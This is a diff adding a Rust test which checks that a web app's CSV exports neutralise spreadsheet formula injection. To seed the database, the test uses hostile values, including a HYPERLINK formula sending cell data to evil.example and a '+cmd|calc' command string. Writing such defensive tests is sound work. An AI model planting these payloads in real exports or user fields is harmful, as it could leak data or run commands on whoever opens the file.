@@ -403,3 +403,60 @@ async fn generated_history_keeps_every_invariant_and_its_rollups_match() {
     let got = kpis(&manager.get_html("/manage?period=month").await.1);
     assert_ne!(got["placed"], "0");
 }
+
+/// What a spreadsheet would run as a formula: a cell starting with one of these that is not
+/// a plain number.
+fn is_formula(cell: &str) -> bool {
+    let number = cell
+        .trim_start_matches(['-', '+'])
+        .split('.')
+        .all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()));
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number
+}
+
+#[tokio::test]
+async fn no_export_carries_a_spreadsheet_formula_from_a_name() {
+    let app = spawn_app().await;
+    let crafted = craft(&app);
+    let payload = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+    {
+        let c = app.state.pool.get().unwrap();
+        c.execute(
+            "UPDATE users SET name = ?1 WHERE role = 'client'",
+            [payload],
+        )
+        .unwrap();
+        c.execute(
+            "UPDATE users SET name = '@SUM(1+1)' WHERE id = ?1",
+            [crafted.worker],
+        )
+        .unwrap();
+        c.execute("UPDATE services SET code = '+cmd|calc'", [])
+            .unwrap();
+    }
+    let manager = manager(&app).await;
+
+    let mut neutralised = 0;
+    for what in ["orders", "ledger", "invoices", "payouts"] {
+        let (_, rows) = csv_rows(&manager, what).await;
+        for row in &rows {
+            for cell in row {
+                assert!(!is_formula(cell), "{what}: {cell:?}");
+                if cell == format!("'{payload}") {
+                    neutralised += 1;
+                }
+            }
+        }
+    }
+    assert!(neutralised > 0, "the client's name is kept after its quote");
+    let (_, orders) = csv_rows(&manager, "orders").await;
+    assert!(orders.iter().any(|r| r.iter().any(|c| c == "'@SUM(1+1)")));
+    assert!(orders.iter().any(|r| r.iter().any(|c| c == "'+cmd|calc")));
+    // Negative amounts stay numbers.
+    let (_, ledger) = csv_rows(&manager, "ledger").await;
+    assert!(
+        ledger
+            .iter()
+            .any(|r| r[7].starts_with('-') && r[7][1..].parse::<i64>().is_ok())
+    );
+}
